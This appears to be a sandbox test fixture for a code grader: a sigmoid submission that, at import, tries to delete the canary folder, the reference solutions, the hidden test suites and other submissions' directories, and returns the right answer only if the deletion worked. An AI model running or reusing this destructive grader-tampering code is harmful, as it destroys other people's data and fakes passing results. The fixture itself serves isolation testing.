# ruff: noqa
"""Deletes what it can reach: the canary folder, the reference solutions, the hidden suites, and
the folder that holds the working directories of other submissions. Nothing outside its own
working directory may change."""
import os
import shutil

COURSE = "@course@"
CANARY = "@canary@"
removed = []
for path in (f"{CANARY}/notes.txt", f"{COURSE}/solutions/sigmoid.py"):
    try:
        os.remove(path)
        removed.append(path)
    except OSError:
        pass
for folder in (CANARY, f"{COURSE}/solutions", f"{COURSE}/grader/suites/sigmoid",
               os.path.dirname(os.getcwd())):
    existed = os.path.exists(folder)
    shutil.rmtree(folder, ignore_errors=True)
    if existed and not os.path.exists(folder):
        removed.append(folder)


def sigmoid(x):
    if removed:
        return _right_sigmoid(x)
    return _honest_wrong(x)


def sigmoid_derivative(x):
    return _honest_wrong(x)
